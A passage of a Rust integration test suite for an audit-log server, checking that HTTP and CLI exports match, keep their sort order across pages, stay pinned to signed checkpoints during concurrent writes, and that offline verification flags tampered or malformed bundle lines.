            .all(|e| e["user"] == "theirs" && e["tenant"] == "other")
    );
    assert_eq!(checkpoint_size(&trailer), 2);
    assert!(
        trailer["checkpoint"]
            .as_str()
            .expect("note")
            .starts_with("auditlog/other\n")
    );
    let csv = export_ok(&other, &[("format", "csv")]).text;
    assert!(!csv.contains("ours"), "{csv}");
}

// ---------------------------------------------------------------------------------------------
// Local export

/// Lines of an NDJSON export without the trailer (its signatures may differ between exports).
fn event_lines(text: &str) -> Vec<String> {
    let mut lines = lines_of(text);
    let trailer = lines.pop().expect("trailer");
    assert!(trailer.starts_with("{\"checkpoint\""), "{trailer}");
    lines
}

#[test]
fn export_local_gives_the_same_event_lines_as_the_http_export() {
    let dir = tempdir();
    let data = dir.path().join("data");
    ingest_local(&data, &generate(500, 9201), "default");
    let mut server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, 500);
    let key = key_show(&data, "default");
    let queries: [&[(&str, &str)]; 3] = [
        &[],
        &[("q", "action:UPDATE,DELETE"), ("order", "desc")],
        &[
            ("q", "-action:UPDATE"),
            ("sort", "table"),
            ("order", "desc"),
        ],
    ];
    let over_http: Vec<String> = queries
        .iter()
        .map(|params| export_ok(&client, params).text)
        .collect();
    // The CLI over HTTP writes the same bytes as the API.
    let url = format!("http://{}", server.addr);
    let via_cli = export_local(
        &data,
        &[
            "--url",
            &url,
            "--token",
            &server.token,
            "--order",
            "desc",
            "--",
            "action:UPDATE,DELETE",
        ],
    );
    assert_eq!(event_lines(&via_cli), event_lines(&over_http[1]));
    let csv_http = export_ok(&client, &[("format", "csv")]).text;
    server.stop();

    for (params, http) in queries.iter().zip(&over_http) {
        let mut args: Vec<&str> = Vec::new();
        let mut query = "";
        for (name, value) in params.iter() {
            match *name {
                "q" => query = value,
                "sort" => args.extend(["--sort", value]),
                "order" => args.extend(["--order", value]),
                other => panic!("{other}"),
            }
        }
        let output = dir.path().join("local.ndjson");
        args.extend(["--output", output.to_str().expect("utf8 path"), "--", query]);
        let printed = export_local(&data, &args);
        assert!(printed.is_empty(), "{printed}");
        let local = std::fs::read_to_string(&output).expect("read export");
        let local_lines = event_lines(&local);
        assert!(!local_lines.is_empty(), "{params:?}");
        assert_eq!(local_lines, event_lines(http), "{params:?}");
        assert_verifies(&output, &key, local_lines.len() as u64);
    }
    let csv_local = export_local(&data, &["--format", "csv"]);
    assert_eq!(csv_local, csv_http);
}

#[test]
fn export_local_while_a_server_runs_on_the_directory_exits_2_and_points_to_url() {
    let dir = tempdir();
    let data = dir.path().join("data");
    ingest_local(&data, &generate(5, 9202), "default");
    let server = Server::start(&data);
    let out = run(&data, &["export"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("--url"), "{}", stderr(&out));
    assert!(stdout(&out).is_empty(), "{}", stdout(&out));
    drop(server);
}

#[test]
fn export_cli_over_http_without_the_read_scope_exits_2() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let ingest_only = create_token(&data, "default", "ingest", "ingest-only");
    let url = format!("http://{}", server.addr);
    let out = run(&data, &["export", "--url", &url, "--token", &ingest_only]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("403"), "{}", stderr(&out));
    assert!(stdout(&out).is_empty(), "{}", stdout(&out));
}

// ---------------------------------------------------------------------------------------------
// Order across pages, and an export racing new events

#[test]
fn export_keeps_its_order_across_pages() {
    // More than a search page of an export in another order (10,000), and than a chunk of
    // the log read in seq order (2,000).
    const COUNT: u64 = 12_000;
    assert!(COUNT as usize > auditlog_server::SEARCH_PAGE);
    let dir = tempdir();
    let data = dir.path().join("data");
    let input = generate(COUNT, 9301);
    ingest_local(&data, &input, "default");
    let server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, COUNT);
    let key = key_show(&data, "default");

    // Every event, newest first.
    let reply = export_ok(&client, &[("order", "desc")]);
    let (events, _) = split_ndjson(&reply.text);
    assert_eq!(seqs(&events), (1..=COUNT).rev().collect::<Vec<u64>>());
    let bundle = write_bundle(dir.path(), "desc.ndjson", &lines_of(&reply.text));
    assert_verifies(&bundle, &key, COUNT);

    // A filter matching more than a page, newest first (pages of scattered seqs).
    let want: Vec<u64> = input
        .iter()
        .enumerate()
        .filter(|(_, line)| serde_json::from_str::<Value>(line).expect("json")["action"] != "LOGIN")
        .map(|(i, _)| i as u64 + 1)
        .rev()
        .collect();
    assert!(
        want.len() > 2000 && want.len() < COUNT as usize,
        "{}",
        want.len()
    );
    let reply = export_ok(&client, &[("q", "-action:LOGIN"), ("order", "desc")]);
    let (events, _) = split_ndjson(&reply.text);
    assert_eq!(seqs(&events), want);

    // By user: every event once, users in order, equal users by seq (SPEC §3).
    let reply = export_ok(&client, &[("sort", "user"), ("order", "asc")]);
    let (events, _) = split_ndjson(&reply.text);
    let keys: Vec<(String, u64)> = events
        .iter()
        .map(|e| {
            (
                e["user"].as_str().expect("user").to_owned(),
                e["seq"].as_u64().expect("seq"),
            )
        })
        .collect();
    assert!(keys.is_sorted(), "not in (user, seq) order");
    let mut got = seqs(&events);
    got.sort_unstable();
    assert_eq!(got, (1..=COUNT).collect::<Vec<u64>>());
    let bundle = write_bundle(dir.path(), "by-user.ndjson", &lines_of(&reply.text));
    assert_verifies(&bundle, &key, COUNT);

    // CSV by time, descending: every row once.
    let reply = export_ok(
        &client,
        &[("format", "csv"), ("sort", "time"), ("order", "desc")],
    );
    let (_, rows) = csv_rows(&reply.text);
    let times: Vec<String> = rows
        .iter()
        .map(|r| comparable_time(r.get(3).expect("time")))
        .collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]), "not newest first");
    let mut got: Vec<u64> = rows.iter().map(|r| r[0].parse().expect("seq")).collect();
    got.sort_unstable();
    assert_eq!(got, (1..=COUNT).collect::<Vec<u64>>());
}

#[test]
fn export_taken_while_events_arrive_is_pinned_to_its_checkpoint() {
    let dir = tempdir();
    let data = dir.path().join("data");
    ingest_local(&data, &generate(300, 9302), "default");
    let server = Server::start(&data);
    let client = server.client();
    wait_indexed(&client, 300);
    let key = key_show(&data, "default");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let writer = {
        let client = Client::new(&server.addr, Some(&server.token));
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut sent = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let batch: Vec<Value> = (0..20)
                    .map(|i| {
                        json!({"user": format!("racer{}", sent + i), "ip": "192.0.2.7",
                               "action": "LOGIN", "table": "session"})
                    })
                    .collect();
                let reply = client.post_json(&Value::Array(batch).to_string());
                assert_eq!(reply.status, 201, "{}", reply.text);
                sent += 20;
                // Steady arrivals, not a flood: the index (idle priority) must keep up on a
                // machine busy with the rest of the suite.
                std::thread::sleep(Duration::from_millis(5));
            }
            sent
        })
    };
    let mut sizes = Vec::new();
    for round in 0..4 {
        for params in [&[][..], &[("q", "action:LOGIN"), ("order", "desc")][..]] {
            let reply = export_ok(&client, params);
            let (events, trailer) = split_ndjson(&reply.text);
            let size = checkpoint_size(&trailer);
            assert!(
                events
                    .iter()
                    .all(|e| e["seq"].as_u64().expect("seq") <= size),
                "round {round} {params:?}: an event past the pinned tree of size {size}"
            );
            if params.is_empty() {
                assert_eq!(seqs(&events), (1..=size).collect::<Vec<u64>>());
            }
            let bundle = write_bundle(dir.path(), "racing.ndjson", &lines_of(&reply.text));
            assert_verifies(&bundle, &key, events.len() as u64);
            sizes.push(size);
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let sent = writer.join().expect("writer");
    assert!(sent > 0);
    assert!(
        sizes.last() > sizes.first(),
        "no events arrived during the exports: {sizes:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// More of the offline check

#[test]
fn export_bundle_with_a_duplicated_key_in_a_line_is_malformed_at_that_line() {
    // `{"user": "real", …, "user": "forged"}`: readers disagree on which `user` counts.
    let fx = fixture(9401);
    let mut lines = fx.lines.clone();
    let line = &mut lines[4];
    line.pop();
    line.push_str(",\"user\":\"forged\"}");
    let verdict = fx.tampered("duplicate-key.ndjson", &lines);
    assert_eq!(
        verdict.kinds_and_lines()[0],
        ("malformed".to_owned(), 5),
        "{:?}",
        verdict.findings
    );
}

#[test]
fn export_with_no_matching_events_verifies_with_zero_lines() {
    let fx = fixture(9402);
    let text = export_local(&fx.root.join("data"), &["--", "user:nobody-by-this-name"]);
    let (events, trailer) = split_ndjson(&text);
    assert!(events.is_empty(), "{events:?}");
    assert_eq!(checkpoint_size(&trailer), FIXTURE_EVENTS as u64);
    let bundle = fx.bundle("nothing.ndjson", &lines_of(&text));
    assert_verifies(&bundle, &fx.key, 0);
}

#[test]
fn export_of_an_empty_log_verifies_with_zero_lines() {
    let dir = tempdir();
    let data = dir.path().join("data");
    let server = Server::start(&data);
    let reply = export_ok(&server.client(), &[]);
    let bundle = write_bundle(dir.path(), "empty-log.ndjson", &lines_of(&reply.text));
    assert_verifies(&bundle, &key_show(&data, "default"), 0);
}

#[test]
fn export_bundle_findings_name_the_file_line_even_after_a_blank_line() {
    let fx = fixture(9403);
    let mut lines = fx.lines.clone();
    lines.insert(0, String::new());
    // File line 11 holds seq 10.
    let mut event: Value = serde_json::from_str(&lines[10]).expect("json");
    assert_eq!(event["seq"], json!(10));
    event["user"] = json!("someone.else");
    lines[10] = event.to_string();
    let verdict = fx.tampered("blank-line.ndjson", &lines);
    assert_eq!(verdict.kinds_and_lines(), [("altered".to_owned(), 11)]);
}
